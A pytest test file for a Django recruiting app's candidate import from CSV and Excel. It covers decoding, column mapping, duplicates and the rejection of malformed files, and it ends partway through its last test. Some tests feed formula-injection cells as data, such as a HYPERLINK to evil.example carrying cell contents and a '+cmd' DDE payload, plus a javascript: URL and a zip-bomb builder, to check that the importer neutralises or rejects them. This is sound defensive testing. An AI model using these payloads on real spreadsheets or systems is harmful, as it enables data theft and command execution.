"""Importing candidates from CSV and XLSX: reading, mapping, preview, the COPY-based run,
duplicates, crash and resume, the failed-rows file, and the views' access rules."""

import codecs
import csv
import datetime
import io
import re
import zipfile
from unittest import mock

import openpyxl
import pytest
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django_scopes import scope, scopes_disabled

from candidates.importing import rows as import_rows
from candidates.importing.fields import guess_mapping
from candidates.importing.reading import ImportFileError, inspect_file
from candidates.models import Activity, Candidate, ImportRowError, Job
from candidates.normalize import tags_clean
from candidates.services import imports
from candidates.services.export import neutralize
from candidates.tests.factories import CandidateFactory, CustomFieldFactory

HEADER = "First Name,Last Name,Email,Phone,Current Title\n"


def _csv(rows: list[list[str]], *, delimiter: str = ",") -> str:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter, lineterminator="\n").writerows(rows)
    return buffer.getvalue()


def _xlsx(rows: list[list]) -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _job(org, user, content: bytes, *, name="people.csv", mapping=None, **options) -> Job:
    upload = SimpleUploadedFile(name, content)
    info = inspect_file(upload)
    with scope(organization=org):
        job = imports.import_create(organization=org, user=user, upload=upload, info=info)
        return imports.import_configure(
            job=job,
            mapping=mapping or job.params["mapping"],
            options={**job.params["options"], **options},
        )


def _run(org, job) -> Job:
    with scope(organization=org):
        imports.import_run(job=job)
        job.refresh_from_db()
    return job


def _candidates(org):
    with scopes_disabled():
        return list(Candidate.objects.filter(organization=org).order_by("id"))


def _failed_rows(org, job) -> list[list[str]]:
    with scopes_disabled():
        job.refresh_from_db()
        with job.output_file.open("rb") as stream:
            return list(csv.reader(io.StringIO(stream.read().decode("utf-8-sig"))))


# --- reading: encodings, delimiters, quoting ------------------------------------------------------

ACCENTED = HEADER + "José,Müller-Lüdenscheidt,jose@example.com,,Ingénieur\n"


@pytest.mark.parametrize(
    "encoded",
    [
        ACCENTED.encode("utf-8"),
        codecs.BOM_UTF8 + ACCENTED.encode("utf-8"),
        codecs.BOM_UTF16_LE + ACCENTED.encode("utf-16-le"),
        codecs.BOM_UTF16_BE + ACCENTED.encode("utf-16-be"),
        ACCENTED.encode("latin-1"),
        ACCENTED.replace("Ingénieur", "Ingénieur – “lead”").encode("cp1252"),
    ],
    ids=["utf-8", "utf-8-bom", "utf-16-le-bom", "utf-16-be-bom", "latin-1", "cp1252"],
)
def test_import_encodings_are_decoded(org, recruiter_user, encoded):
    job = _run(org, _job(org, recruiter_user, encoded))

    [candidate] = _candidates(org)
    assert (candidate.first_name, candidate.last_name) == ("José", "Müller-Lüdenscheidt")
    assert candidate.current_title.startswith("Ingénieur")
    assert job.result == {"created": 1, "updated": 0, "skipped": 0, "failed": 0}


@pytest.mark.parametrize("delimiter", [",", ";", "\t"], ids=["comma", "semicolon", "tab"])
def test_import_delimiters_are_sniffed(org, recruiter_user, delimiter):
    content = _csv(
        [
            ["First Name", "Last Name", "Email", "Current Title"],
            ["Ada", "Lovelace", "ada@example.com", "Analyst, engines; etc"],
            ["Grace", "Hopper", "grace@example.com", "Rear admiral"],
        ],
        delimiter=delimiter,
    )
    job = _run(org, _job(org, recruiter_user, content.encode()))

    assert job.params["file"]["delimiter"] == delimiter
    assert [c.current_title for c in _candidates(org)] == ["Analyst, engines; etc", "Rear admiral"]


def test_import_quoted_newlines_and_blank_lines(org, recruiter_user):
    content = (
        "First Name,Last Name,Email,Headline\r\n"
        "\r\n"
        'Ada,Lovelace,ada@example.com,"Line one\nLine two"\r\n'
        ",,,\r\n"
        "\r\n"
        "Grace,Hopper,bad-email,Admiral\r\n"
    )
    job = _run(org, _job(org, recruiter_user, content.encode()))

    [ada] = _candidates(org)
    assert ada.headline == "Line one\nLine two"
    assert job.result == {"created": 1, "updated": 0, "skipped": 0, "failed": 1}
    assert job.total == 2
    # Row numbers are the spreadsheet's: blank rows count, a quoted newline does not.
    assert _failed_rows(org, job)[1][0] == "6"


def test_import_formula_looking_cells_are_plain_text(org, recruiter_user):
    content = _csv(
        [
            ["First Name", "Last Name", "Email", "Headline"],
            ["=1+2", "Lovelace", "ada@example.com", '=HYPERLINK("http://evil.example","x")'],
            ["@SUM(A1)", "Hopper", "not-an-email", "+cmd|' /C calc'!A0"],
        ]
    )
    job = _run(org, _job(org, recruiter_user, content.encode()))

    [ada] = _candidates(org)
    assert ada.first_name == "=1+2"
    assert ada.headline == '=HYPERLINK("http://evil.example","x")'
    # In the failed-rows file they are escaped, so that a spreadsheet never runs them.
    failed = _failed_rows(org, job)[1]
    assert failed[1] == "'@SUM(A1)"
    assert failed[4] == "'+cmd|' /C calc'!A0"


def test_import_failed_rows_file_neutralises_its_header_row_and_reason(
    org, recruiter_client, recruiter_user
):
    evil = '=HYPERLINK("https://evil.example/?"&A2,"Click")'
    content = _csv(
        [
            ["First Name", "Last Name", "Email", evil, "@SUM(A1)", "-2+3"],
            ["Ada", "Lovelace", "nope", "x", "y", "z"],
        ]
    )
    job = _run(org, _job(org, recruiter_user, content.encode()))

    response = recruiter_client.get(reverse("candidates:job_download", args=[org.slug, job.pk]))
    text = b"".join(response.streaming_content).decode("utf-8")
    header, row = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert text.count("\ufeff") == 1  # one byte-order mark, so Excel reads UTF-8
    assert header == [
        "Row",
        "First Name",
        "Last Name",
        "Email",
        "'" + evil,
        "'@SUM(A1)",
        "'-2+3",
        "Reason",
    ]
    assert row[:4] == ["2", "Ada", "Lovelace", "nope"]
    assert row[-1].startswith("Email: ")


def test_import_failed_rows_file_uses_the_exports_neutralisation(org, recruiter_user):
    """One rule for every spreadsheet the app writes: a value is written as `neutralize`
    gives it, in the export and in the failed rows alike."""
    values = ["=1+2", "+44 7911 123456", "-5", "@x", "\tTab", "plain", "a=b"]
    content = _csv(
        [["First Name", "Last Name", "Email", "Headline"]]
        + [[value, "Lovelace", "not-an-email", value] for value in values]
    )
    job = _run(org, _job(org, recruiter_user, content.encode()))

    failed = _failed_rows(org, job)[1:]
    assert [row[1] for row in failed] == [neutralize(value) for value in values]
    assert [row[4] for row in failed] == [neutralize(value) for value in values]


FORMULA_BEHIND_SPACES = ' =HYPERLINK("https://evil.example/?"&A2,"Click")'


def test_import_failed_rows_file_neutralises_a_formula_behind_leading_spaces(org, recruiter_user):
    # A spreadsheet skips the spaces: the cell is written as the uploader had it, quoted.
    content = _csv(
        [
            ["First Name", "Last Name", "Email", "Headline"],
            ["Ada", "Lovelace", "not-an-email", FORMULA_BEHIND_SPACES],
            ["Grace", "Hopper", "nope", "  @SUM(A1)"],
        ]
    )
    job = _run(org, _job(org, recruiter_user, content.encode()))

    failed = _failed_rows(org, job)[1:]
    assert [row[4] for row in failed] == ["'" + FORMULA_BEHIND_SPACES, "'  @SUM(A1)"]


def test_import_failed_rows_file_with_quoted_spaced_formulas_imports_back(org, recruiter_user):
    """The quote `neutralize` adds before spaces and a formula is dropped again, with the
    spaces, as importing the original cell would have."""
    content = _csv(
        [
            ["First Name", "Last Name", "Email", "Headline"],
            ["  =1+2", "Lovelace", "ada-at-example.com", FORMULA_BEHIND_SPACES],
        ]
    )
    job = _run(org, _job(org, recruiter_user, content.encode()))
    fixed = _failed_rows(org, job)
    fixed[1][3] = "ada@example.com"

    _run(org, _job(org, recruiter_user, _csv([row[1:-1] for row in fixed]).encode()))

    [ada] = _candidates(org)
    assert (ada.first_name, ada.headline) == ("=1+2", FORMULA_BEHIND_SPACES.strip())


def test_import_failed_rows_file_imports_back_unescaped(org, recruiter_user):
    content = _csv(
        [
            ["First Name", "Last Name", "Email", "Phone"],
            ["=1+2", "Lovelace", "ada-at-example.com", "+44 7911 123456"],
        ]
    )
    job = _run(org, _job(org, recruiter_user, content.encode()))
    fixed = _failed_rows(org, job)
    fixed[1][3] = "ada@example.com"
    rows = [row[1:-1] for row in fixed]  # without the Row and Reason columns

    _run(org, _job(org, recruiter_user, _csv(rows).encode()))

    [ada] = _candidates(org)
    assert (ada.first_name, ada.phone) == ("=1+2", "+447911123456")


def test_import_escaped_formula_from_failed_rows_file_is_unescaped(org, recruiter_user):
    content = "First Name,Last Name,Email\n'=1+2,Lovelace,ada@example.com\n"
    _run(org, _job(org, recruiter_user, content.encode()))

    assert _candidates(org)[0].first_name == "=1+2"


# --- a large file with bad rows ----------------------------------------------------------------


def test_import_ten_thousand_rows_with_five_percent_bad(org, recruiter_user, settings):
    settings.CANDIDATE_IMPORT_BATCH_SIZE = 3000
    rows = [["First Name", "Last Name", "Email", "Phone", "LinkedIn"]]
    for i in range(10_000):
        email = f"person{i}@example.com" if i % 20 else f"person{i}-at-example.com"
        rows.append([f"First{i}", f"Last{i}", email, "+44 7911 123456", ""])
    job = _run(org, _job(org, recruiter_user, _csv(rows).encode(), name="big list.csv"))

    assert job.status == Job.Status.DONE
    assert job.result == {"created": 9500, "updated": 0, "skipped": 0, "failed": 500}
    assert (job.total, job.processed) == (10_000, 10_000)
    with scopes_disabled():
        assert Candidate.objects.filter(organization=org).count() == 9500
        assert ImportRowError.objects.filter(job=job).count() == 500
        assert Activity.objects.filter(organization=org, kind="imported").count() == 9500
        sample = Candidate.objects.get(organization=org, email="person1@example.com")
    assert sample.phone == "+447911123456"
    assert sample.source == "import"
    assert sample.search_name == "first1 last1"  # filled by the database trigger
    failed = _failed_rows(org, job)
    assert failed[0] == ["Row", "First Name", "Last Name", "Email", "Phone", "LinkedIn", "Reason"]
    assert len(failed) == 501
    assert failed[1] == [
        "2",
        "First0",
        "Last0",
        "person0-at-example.com",
        "'+44 7911 123456",  # neutralised like every cell: the importer drops the quote
        "",
        "Email: “person0-at-example.com” is not a valid email address.",
    ]
    assert failed[-1][0] == str(9980 + 2)
    assert job.params["output_name"] == "big list-failed-rows.csv"


def test_import_reports_every_kind_of_invalid_cell(org, recruiter_user):
    CustomFieldFactory(organization=org, key="notice", label="Notice (weeks)", field_type="number")
    content = _csv(
        [
            ["Name", "Email", "Phone", "Website", "Owner", "Notice", "Seniority"],
            ["Ada Lovelace", "ada@example.com", "+44 7911 123456", "ada.dev", "", "4", "Senior"],
            ["", "x@example.com", "12", "javascript:alert(1)", "who@x.com", "soon", "boss"],
        ]
    )
    job = _run(org, _job(org, recruiter_user, content.encode()))

    [ada] = _candidates(org)
    assert ada.portfolio_url == "https://ada.dev"
    assert ada.custom_fields == {"notice": 4}
    assert ada.seniority == "senior"
    reason = _failed_rows(org, job)[1][-1]
    assert "The name is missing." in reason
    assert "Phone: “12” is not a valid phone number" in reason
    assert "“javascript:alert(1)” is not a valid web address." in reason
    assert "No member of this organisation has the email “who@x.com”." in reason
    assert "Notice (weeks): enter a number." in reason
    assert "“boss” is not a seniority" in reason


def test_import_splits_full_names_locations_and_links(org, recruiter_user):
    content = _csv(
        [
            ["Name", "Location", "Links", "Tags", "Owner"],
            [
                "Lovelace, Ada",
                "London, United Kingdom",
                "https://linkedin.com/in/ada, github.com/ada https://ada.dev",
                "Python; Math",
                recruiter_user.email.upper(),
            ],
        ]
    )
    _run(org, _job(org, recruiter_user, content.encode(), tags=["meetup"]))

    [ada] = _candidates(org)
    assert (ada.first_name, ada.last_name) == ("Ada", "Lovelace")
    assert (ada.city, ada.country) == ("London", "United Kingdom")
    assert ada.linkedin_url == "https://linkedin.com/in/ada"
    assert ada.github_url == "https://github.com/ada"
    assert ada.portfolio_url == "https://ada.dev"
    assert ada.tags == ["python", "math", "meetup"]
    assert ada.owner_id == recruiter_user.pk


def test_import_tags_with_quotes_backslashes_and_braces_survive_copy(org, recruiter_user):
    content = _csv([["Name", "Tags", "Skills"], ["Ada", 'C\\ "quoted"; {braces}', "c++, Ω"]])
    _run(org, _job(org, recruiter_user, content.encode()))

    [ada] = _candidates(org)
    assert ada.tags == ['c\\ "quoted"', "{braces}"]
    assert ada.skills == ["c++", "ω"]


@pytest.mark.parametrize(
    "cell",
    [
        "Python, python ,  Machine   Learning;machine learning",
        ";;, ,",
        "Go; Rust, go",
        "x" * 64 + ", " + "x" * 63,
        'C\\ "quoted"; {braces}',
        "\tTabbed\tword, Ω",
    ],
)
def test_import_tag_cells_split_like_the_shared_normaliser(cell):
    """The import caches normalised words; the result is the shared normaliser's, twice."""
    expected = tuple(tags_clean(cell.replace(";", ",")))
    assert import_rows._tag_list(cell) == expected
    assert import_rows._tag_list(cell) == expected  # from the cache


def test_import_fails_a_row_with_a_tag_or_skill_longer_than_64_characters(org, recruiter_user):
    content = _csv(
        [
            ["Name", "Email", "Tags", "Skills"],
            ["Ada Lovelace", "ada@example.com", "fine; " + "t" * 65, ""],
            ["Grace Hopper", "grace@example.com", "", "s" * 80],
            ["Alan Turing", "alan@example.com", "t" * 64, "s" * 64],
        ]
    )

    job = _run(org, _job(org, recruiter_user, content.encode()))

    assert job.result == {"created": 1, "updated": 0, "skipped": 0, "failed": 2}
    [alan] = _candidates(org)
    assert (alan.tags, alan.skills) == (["t" * 64], ["s" * 64])
    reasons = [row[-1] for row in _failed_rows(org, job)[1:]]
    assert all("longer than 64 characters" in reason for reason in reasons)


def test_import_links_must_be_on_their_sites(org, recruiter_user):
    content = _csv(
        [
            ["Name", "Email", "LinkedIn URL", "GitHub URL", "Links"],
            ["Ada Lovelace", "ada@example.com", "https://example.com/not-linkedin", "", ""],
            ["Grace Hopper", "grace@example.com", "", "https://gitlab.com/grace", ""],
            [
                "Alan Turing",
                "alan@example.com",
                "uk.linkedin.com/in/alan",
                "https://github.com/alan",
                "https://linkedin.com.example.org/x, https://alan.dev",
            ],
        ]
    )

    job = _run(org, _job(org, recruiter_user, content.encode()))

    assert job.result == {"created": 1, "updated": 0, "skipped": 0, "failed": 2}
    [alan] = _candidates(org)
    assert alan.linkedin_url == "https://uk.linkedin.com/in/alan"
    assert alan.github_url == "https://github.com/alan"
    assert alan.portfolio_url == "https://linkedin.com.example.org/x"  # not LinkedIn's site
    reasons = [row[-1] for row in _failed_rows(org, job)[1:]]
    assert "Enter a LinkedIn address (on linkedin.com)" in reasons[0]
    assert "Enter a GitHub address (on github.com)" in reasons[1]


def test_import_status_column_updates_existing_status_only_when_given(org, recruiter_user):
    CandidateFactory(organization=org, email="ada@example.com", status="hired")
    CandidateFactory(organization=org, email="grace@example.com", status="hired")
    content = "Name,Email,Status\nAda,ada@example.com,Not now\nGrace,grace@example.com,\n"
    job = _run(org, _job(org, recruiter_user, content.encode()))

    assert job.result["updated"] == 2
    assert [c.status for c in _candidates(org)] == ["not_now", "hired"]


def test_import_not_now_without_a_date_comes_back_after_the_chosen_delay(org, recruiter_user):
    content = "Name,Email,Status\nAda,ada@example.com,Not now\nGrace,grace@example.com,Active\n"
    job = _job(org, recruiter_user, content.encode(), not_now_days=180)
    job = _run(org, job)

    ada, grace = _candidates(org)
    assert (ada.status, ada.not_now_until) == (
        "not_now",
        job.created_at.date() + datetime.timedelta(days=180),
    )
    assert (grace.status, grace.not_now_until) == ("active", None)


def test_import_not_now_delay_counts_from_the_organisations_date(org, recruiter_user):
    """Started at 11:30 UTC on 27 November, which is already 28 November in Auckland: the
    default "not now" date counts from the 28th, as the organisation's pages show it."""
    from candidates.tasks import import_run_task

    with scopes_disabled():
        org.time_zone = "Pacific/Auckland"
        org.save(update_fields=["time_zone"])
    content = "Name,Email,Status\nAda,ada@example.com,Not now\n"
    job = _job(org, recruiter_user, content.encode(), not_now_days=10)
    started = datetime.datetime(2026, 11, 27, 11, 30, tzinfo=datetime.UTC)
    with scopes_disabled():
        Job.objects.filter(pk=job.pk).update(created_at=started)

    import_run_task.apply(kwargs={"organization_id": org.pk, "job_id": job.pk})

    (ada,) = _candidates(org)
    assert ada.not_now_until == datetime.date(2026, 12, 8)


def test_import_not_now_until_column_gives_each_row_its_date(org, recruiter_user):
    content = (
        "Name,Email,Status,Not now until\n"
        "Ada,ada@example.com,Not now,2031-03-31\n"
        "Grace,grace@example.com,,31/12/2031\n"  # a date alone means "not now"
        "Linus,linus@example.com,Active,2031-01-01\n"  # an active status has no date
        "Ken,ken@example.com,Not now,someday\n"
    )
    job = _job(org, recruiter_user, content.encode())
    assert job.params["mapping"] == ["full_name", "email", "status", "not_now_until"]
    job = _run(org, job)

    assert [(c.first_name, c.status, c.not_now_until) for c in _candidates(org)] == [
        ("Ada", "not_now", datetime.date(2031, 3, 31)),
        ("Grace", "not_now", datetime.date(2031, 12, 31)),
        ("Linus", "active", None),
    ]
    assert job.result["failed"] == 1
    assert "“someday” is not a date" in _failed_rows(org, job)[1][-1]


def test_import_update_status_sets_or_clears_the_not_now_date(org, recruiter_user):
    CandidateFactory(
        organization=org,
        email="ada@example.com",
        status="not_now",
        not_now_until=datetime.date(2030, 5, 1),
    )
    CandidateFactory(
        organization=org,
        email="grace@example.com",
        status="not_now",
        not_now_until=datetime.date(2030, 5, 1),
    )
    CandidateFactory(organization=org, email="linus@example.com", status="active")
    content = (
        "Name,Email,Status,Not now until\n"
        "Ada,ada@example.com,Active,\n"
        "Grace,grace@example.com,,\n"
        "Linus,linus@example.com,Not now,2031-02-01\n"
    )
    job = _run(org, _job(org, recruiter_user, content.encode()))

    assert job.result["updated"] == 3
    assert [(c.email, c.status, c.not_now_until) for c in _candidates(org)] == [
        ("ada@example.com", "active", None),
        ("grace@example.com", "not_now", datetime.date(2030, 5, 1)),
        ("linus@example.com", "not_now", datetime.date(2031, 2, 1)),
    ]


def test_import_of_our_own_export_keeps_status_and_not_now_date(
    org, other_org, recruiter_user, outsider_user
):
    from candidates.services.export import export_headers, export_rows, export_write_csv

    CandidateFactory(
        organization=org,
        first_name="Ada",
        last_name="Lovelace",
        email="ada@example.com",
        phone="+447911123456",
        skills=["python"],
        status="not_now",
        not_now_until=datetime.date(2031, 4, 1),
    )
    buffer = io.StringIO()
    with scope(organization=org):
        queryset = Candidate.objects.filter(organization=org)
        export_write_csv(buffer, export_headers([]), export_rows(queryset, []))

    job = _run(other_org, _job(other_org, outsider_user, buffer.getvalue().encode()))

    assert job.result == {"created": 1, "updated": 0, "skipped": 0, "failed": 0}
    [ada] = _candidates(other_org)
    assert (ada.full_name, ada.email, ada.phone, ada.skills) == (
        "Ada Lovelace",
        "ada@example.com",
        "+447911123456",
        ["python"],
    )
    assert (ada.status, ada.not_now_until) == ("not_now", datetime.date(2031, 4, 1))


def test_import_later_row_status_replaces_an_earlier_not_now_date(org, recruiter_user):
    content = (
        "Name,Email,Status,Not now until\n"
        "Ada,ada@example.com,Not now,2031-03-31\n"
        "Ada,ada@example.com,Hired,\n"
    )
    _run(org, _job(org, recruiter_user, content.encode()))

    [ada] = _candidates(org)
    assert (ada.status, ada.not_now_until) == ("hired", None)


def test_import_preview_shows_when_a_not_now_row_comes_back(org, recruiter_user):
    content = "Name,Email,Status\nAda,ada@example.com,Not now\n"
    job = _job(org, recruiter_user, content.encode())

    with scope(organization=org):
        preview = imports.import_preview(job=job)

    assert [key for key, _ in preview.columns][-1] == "not_now_until"
    expected = (job.created_at.date() + datetime.timedelta(days=90)).isoformat()
    assert preview.rows[0].cells[-1].value == expected


# --- duplicates -------------------------------------------------------------------------------


def test_import_duplicate_email_update_replaces_values_with_non_empty_cells(org, recruiter_user):
    existing = CandidateFactory(
        organization=org,
        first_name="Ada",
        last_name="L",
        email="ada@example.com",
        current_title="Analyst",
        tags=["vip"],
    )
    content = HEADER + "Ada,Lovelace,ADA@Example.COM,,\n"
    job = _run(
        org, _job(org, recruiter_user, content.encode(), tags=["imported"], duplicates="update")
    )

    assert job.result == {"created": 0, "updated": 1, "skipped": 0, "failed": 0}
    [candidate] = _candidates(org)
    assert candidate.pk == existing.pk
    assert candidate.last_name == "Lovelace"
    assert candidate.current_title == "Analyst"  # an empty cell keeps the value
    assert candidate.tags == ["vip", "imported"]
    with scopes_disabled():
        activity = Activity.objects.get(candidate=existing, kind="imported")
    assert activity.summary == "Updated by an import from people.csv"
    assert activity.data == {"job_id": job.pk, "created": False}


def test_import_duplicate_email_skip_leaves_existing_candidate(org, recruiter_user):
    CandidateFactory(organization=org, first_name="Ada", last_name="L", email="ada@example.com")
    content = HEADER + "Ada,Lovelace,Ada@Example.com,,\nGrace,Hopper,grace@example.com,,\n"
    job = _run(org, _job(org, recruiter_user, content.encode(), duplicates="skip"))

    assert job.result == {"created": 1, "updated": 0, "skipped": 1, "failed": 0}
    assert [c.last_name for c in _candidates(org)] == ["L", "Hopper"]


@pytest.mark.parametrize(
    ("duplicates", "expected"),
    [("update", ("King", "Countess")), ("fill", ("Lovelace", "Analyst"))],
)
@pytest.mark.parametrize("batch_size", [1000, 2], ids=["same-batch", "across-batches"])
def test_import_duplicates_within_file_update_applies_rows_in_order(
    org, recruiter_user, settings, batch_size, duplicates, expected
):
    settings.CANDIDATE_IMPORT_BATCH_SIZE = batch_size
    content = (
        "First Name,Last Name,Email,Current Title,Tags\n"
        "Ada,Lovelace,ada@example.com,Analyst,math\n"
        "Grace,Hopper,grace@example.com,,\n"
        "Ada,King,ADA@example.com,,engines\n"
        "Ada,,ada@EXAMPLE.com,Countess,\n"
    )
    job = _run(org, _job(org, recruiter_user, content.encode(), duplicates=duplicates))

    assert job.result == {"created": 2, "updated": 2, "skipped": 0, "failed": 0}
    ada = next(c for c in _candidates(org) if c.email == "ada@example.com")
    assert (ada.last_name, ada.current_title) == expected
    assert ada.tags == ["math", "engines"]


@pytest.mark.parametrize("batch_size", [1000, 2], ids=["same-batch", "across-batches"])
def test_import_duplicates_within_file_skip_keeps_first_row(
    org, recruiter_user, settings, batch_size
):
    settings.CANDIDATE_IMPORT_BATCH_SIZE = batch_size
    content = (
        "First Name,Last Name,Email\n"
        "Ada,Lovelace,ada@example.com\n"
        "Grace,Hopper,grace@example.com\n"
        "Ada,King,ADA@example.com\n"
    )
    job = _run(org, _job(org, recruiter_user, content.encode(), duplicates="skip"))

    assert job.result == {"created": 2, "updated": 0, "skipped": 1, "failed": 0}
    assert [c.last_name for c in _candidates(org)] == ["Lovelace", "Hopper"]


def test_import_rows_without_email_are_never_merged(org, recruiter_user):
    content = "First Name,Last Name,Email\nAda,Lovelace,\nAda,Lovelace,\n"
    job = _run(org, _job(org, recruiter_user, content.encode()))

    assert job.result["created"] == 2


def test_import_does_not_touch_another_organisation(org, other_org, recruiter_user):
    CandidateFactory(organization=other_org, first_name="Other", email="ada@example.com")
    job = _run(
        org, _job(org, recruiter_user, (HEADER + "Ada,Lovelace,ada@example.com,,\n").encode())
    )

    assert job.result["created"] == 1
    with scopes_disabled():
        assert Candidate.objects.get(organization=other_org).first_name == "Other"


# --- header guessing --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("headers", "expected"),
    [
        (
            [
                "First Name",
                "Last Name",
                "URL",
                "Email Address",
                "Company",
                "Position",
                "Connected On",
            ],
            [
                "first_name",
                "last_name",
                "linkedin_url",
                "email",
                "current_company",
                "current_title",
                "",
            ],
        ),
        (
            [
                *["First Name", "Last Name", "Email", "Phone", "Current Company"],
                *["Current Title", "Source", "Tags"],
            ],
            [
                "first_name",
                "last_name",
                "email",
                "phone",
                "current_company",
                "current_title",
                "source_detail",
                "tags",
            ],
        ),
        (
            [
                *["Name", "Email", "Phone", "Location", "Current Company", "Current Title"],
                *["Tags", "Sources", "Links"],
            ],
            [
                "full_name",
                "email",
                "phone",
                "location",
                "current_company",
                "current_title",
                "tags",
                "source_detail",
                "links",
            ],
        ),
        (
            ["Name", "Email", "Phone", "Headline", "Address", "Job", "Stage", "Tags"],
            ["full_name", "email", "phone", "headline", "location", "", "", "tags"],
        ),
        (
            ["Prénom", "Surname", "E-mail", "Mobile", "Job title", "Organisation", "Notice"],
            ["first_name", "last_name", "email", "phone", "current_title", "current_company", ""],
        ),
    ],
    ids=["linkedin", "greenhouse", "lever", "workable", "generic"],
)
def test_import_guesses_columns_of_common_exports(headers, expected):
    assert guess_mapping(headers, []) == expected


def test_import_guesses_custom_fields_and_uses_each_field_once(org):
    custom = CustomFieldFactory.build(key="notice_period", label="Notice period")

    assert guess_mapping(["Notice Period", "Email", "E-mail"], [custom]) == [
        "custom:notice_period",
        "email",
        "",
    ]


def test_import_linkedin_connections_file_skips_notes_preamble(org, recruiter_user):
    content = (
        "Notes:\n"
        '"When exporting your connection data, you may notice that some emails are missing."\n'
        "\n"
        "First Name,Last Name,URL,Email Address,Company,Position,Connected On\n"
        "Ada,Lovelace,https://www.linkedin.com/in/ada,ada@example.com,Engines,Analyst,01 Jan 2024\n"
    )
    job = _run(org, _job(org, recruiter_user, content.encode()))

    [ada] = _candidates(org)
    assert (ada.current_company, ada.linkedin_url) == ("Engines", "https://www.linkedin.com/in/ada")
    assert job.params["file"]["header_index"] == 3


# --- malformed files --------------------------------------------------------------------------


def _zip_bomb() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (20 * 1024 * 1024))
    return buffer.getvalue()


def _xlsx_needing_zip_version(version: int) -> bytes:
    """A workbook whose first central directory entry says it needs zip version `version` / 10
    to extract: zipfile refuses anything past 6.3 with NotImplementedError when it opens it."""
    data = bytearray(_xlsx([["Email"], ["ada@example.com"]]))
    entry = data.find(b"PK\x01\x02")
    data[entry + 6] = version
    return bytes(data)


PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(range(256))


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("garbage.csv", bytes(range(256)) * 8, "contains binary data"),
        ("image.csv", PNG, "This file is a PNG image, not a spreadsheet."),
        ("empty.csv", b"", "This file is empty. Upload a CSV or Excel (.xlsx) file"),
        ("blank.csv", b"\n\n  \n", "The file is empty."),
        ("header.csv", b"First Name,Last Name,Email\n\n", "no candidates under it"),
        ("dupes.csv", b"Email,Name,email\na@b.co,A,c@d.co\n", "Two columns are named"),
        ("gap.csv", b"Email,,Name\na@b.co,x,A\n", "Column 2 has no name"),
        ("bomb.xlsx", _zip_bomb(), "zip bomb"),
        ("docs.xlsx", b"PK\x03\x04garbage that is not a zip", "damaged zip"),
        ("new.xlsx", _xlsx_needing_zip_version(240), "damaged zip"),
        ("old.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "old-style Excel"),
        # Bytes that decode as Windows-1252 "text" without a control character in them.
        ("high.csv", bytes(range(0x80, 0x100)) * 16, "not a text (CSV) or Excel file"),
        ("fake.csv", b"\x89PNG not really an image", "This file is a PNG image"),
    ],
    ids=[
        *["binary", "png", "empty", "blank", "header-only", "duplicate-header", "empty-header"],
        *["zip-bomb", "broken-zip", "unknown-zip-version", "xls", "high-bytes"],
        "png-signature-only",
    ],
)
def test_import_upload_rejects_malformed_files_with_a_message(
    org, recruiter_client, name, content, message
):
    recruiter_client.raise_request_exception = False  # a crash is a 500 here, not an exception
    url = reverse("candidates:import", args=[org.slug])
    response = recruiter_client.post(url, {"file": SimpleUploadedFile(name, content)})

    assert response.status_code == 200
    errors = " ".join(response.context["form"].errors["file"])
    assert message in errors
    with scopes_disabled():
        assert not Job.objects.filter(organization=org).exists()


def test_import_upload_without_a_file_says_what_to_choose(org, recruiter_client):
    # What a browser sends for an empty file input: the field with no file under it.
    response = recruiter_client.post(reverse("candidates:import", args=[org.slug]), {"file": ""})

    assert response.context["form"].errors["file"] == [
        "Choose a CSV or Excel (.xlsx) file to upload."
    ]
    assert "This field is required." not in response.content.decode()


UNCLOSED_QUOTE = 'has a quote (") that is never closed, so the rest of the file would be read'


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b'name,email\n"unterminated,foo\n', f"The row starting on line 2 {UNCLOSED_QUOTE}"),
        (b'name,email\n"unterminated,foo', f"The row starting on line 2 {UNCLOSED_QUOTE}"),
        (
            b'Name,Email\nAda,ada@example.com\n\n"Grace,grace@example.com\nAlan,alan@example.com\n',
            f"The row starting on line 4 {UNCLOSED_QUOTE}",
        ),
        (
            codecs.BOM_UTF16_LE
            + 'Name;Email\r\nAda;ada@example.com\r\n"Grace;g@example.com\r\n'.encode("utf-16-le"),
            f"The row starting on line 3 {UNCLOSED_QUOTE}",
        ),
        (
            b'Name,Email,Notes\nAda,ada@example.com,"one\ntwo" three\n',
            "Line 3 has text right after a closing quote",
        ),
        (
            b'Name,Email\n"Ada,ada@example.com\n' + b"Grace,grace@example.com\n" * 7_000,
            "The row starting on line 2 has a value longer than 131,072 characters",
        ),
    ],
    ids=["unclosed", "unclosed-at-end", "unclosed-after-rows", "utf-16", "after-quote", "huge"],
)
def test_import_upload_rejects_broken_quoting_naming_the_line(
    org, recruiter_client, content, message
):
    url = reverse("candidates:import", args=[org.slug])

    response = recruiter_client.post(url, {"file": SimpleUploadedFile("people.csv", content)})

    assert response.status_code == 200
    [error] = response.context["form"].errors["file"]
    assert message in error
    assert error.endswith("Fix the file (a text editor shows line numbers) and upload it again.")
    with scopes_disabled():
        assert not Job.objects.filter(organization=org).exists()


def test_import_latin_1_file_with_a_stray_undefined_byte_is_still_text(org, recruiter_user):
    # 0x81 is not a Windows-1252 character; one such byte in a real file is not binary data.
    content = ACCENTED.encode("latin-1") + "Ada,Lovelace,ada@example.com,,Analyst\x81\n".encode(
        "latin-1"
    )

    job = _run(org, _job(org, recruiter_user, content))

    assert job.result == {"created": 2, "updated": 0, "skipped": 0, "failed": 0}


def test_import_upload_rejects_zip_that_is_not_a_workbook(org):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("word/document.xml", "<w/>")

